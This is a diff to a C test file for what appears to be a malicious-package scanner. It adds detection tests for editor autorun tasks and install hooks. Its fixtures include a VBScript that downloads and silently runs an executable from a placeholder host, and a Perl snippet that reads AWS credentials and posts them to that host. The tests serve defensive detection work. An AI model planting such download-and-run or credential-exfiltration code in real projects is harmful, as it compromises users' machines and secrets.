@@ -374,6 +374,16 @@ TEST(editors)
                "never workflow.write what=all-secrets");
         expect_not(FILES(PKG, { "template/.vscode/tasks.json", "{\"tasks\":[]}", 0 }),
                    "editor agent.config");
+        expect(FILES(PKG,
+                     { "x.code-workspace",
+                       "{\"tasks\":{\"tasks\":[{\"label\":\"a\",\"command\":\"node "
+                       "${workspaceFolder}/a.js\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}}",
+                       0 }),
+               "editor trigger how=folder-open target=${workspaceFolder}/a.js");
+        expect(FILES(PKG, { ".cursor/environment.json", "{\"install\":\"sh a.sh\"}", 0 }),
+               "editor trigger how=cursor target=a.sh");
+        expect(FILES(PKG, { ".kiro/steering/x.md", "hello", 0 }),
+               "editor agent.config how=instructions");
 }
 
 TEST(hidden_text)
@@ -475,6 +485,29 @@ TEST(powershell_and_ruby)
         expect(ps1, 2, "install code.eval +network");
         expect(ruby, 2, "install secret.read which=npm name=NPM_TOKEN");
         expect(ruby, 2, "install net.send +npm");
+}
+
+TEST(saved_and_started)
+{
+        expect(FILES(HOOK("cscript //nologo a.vbs"),
+                     { "a.vbs",
+                       "x.Open \"GET\", \"https://c.example.invalid/a.exe\"\n"
+                       "s.SaveToFile \"%TEMP%\\a.exe\"\n"
+                       "CreateObject(\"WScript.Shell\").Run \"%TEMP%\\a.exe\", 0\n",
+                       0 }),
+               "install download.run how=saved host=c.example.invalid");
+        expect_not(FILES(HOOK("python3 a.py"),
+                         { "a.py",
+                           "urlretrieve('https://c.example.invalid/a.tgz', 'a.tgz')\n"
+                           "subprocess.run(['tar', 'xzf', 'a.tgz'])\n",
+                           0 }),
+                   "install download.run");
+        expect(FILES(HOOK("perl a.pl"),
+                     { "a.pl",
+                       "open($f, '<', \"$ENV{HOME}/.aws/credentials\");\n"
+                       "LWP::UserAgent->new->post('https://c.example.invalid/');\n",
+                       0 }),
+               "install net.send host=c.example.invalid +aws");
 }
 
 TEST(scripts_are_not_taken_for_javascript)
